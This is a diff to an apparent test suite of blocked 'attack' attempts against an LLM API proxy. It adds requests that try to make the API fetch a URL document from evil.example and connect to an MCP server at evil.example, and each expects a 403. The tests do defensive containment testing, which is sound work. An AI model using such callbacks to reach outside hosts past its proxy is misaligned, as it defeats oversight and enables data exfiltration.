@@ -124,6 +124,25 @@ export const CALLBACKS: AttackGroup = {
       to: 'llm/v1/messages',
       body: { model: MODEL, max_tokens: 10, messages: [{ role: 'user', content: 'x y '.repeat(700_000) }] },
     }),
+    attempt('have the API fetch a document', /^403.*type 'url'/, {
+      to: 'llm/v1/messages',
+      body: {
+        model: MODEL,
+        max_tokens: 10,
+        messages: [
+          { role: 'user', content: [{ type: 'document', source: { type: 'url', url: 'https://evil.example/?x' } }] },
+        ],
+      },
+    }),
+    attempt('have the API connect to a server', /^403.*mcp_servers/, {
+      to: 'llm/v1/messages',
+      body: {
+        model: MODEL,
+        max_tokens: 10,
+        messages: [{ role: 'user', content: 'x' }],
+        mcp_servers: [{ type: 'url', url: 'https://evil.example', name: 'x' }],
+      },
+    }),
     attempt('use a tool that the API runs, and that costs extra', /^4\d\d/, {
       to: 'llm/v1/messages',
       body: {
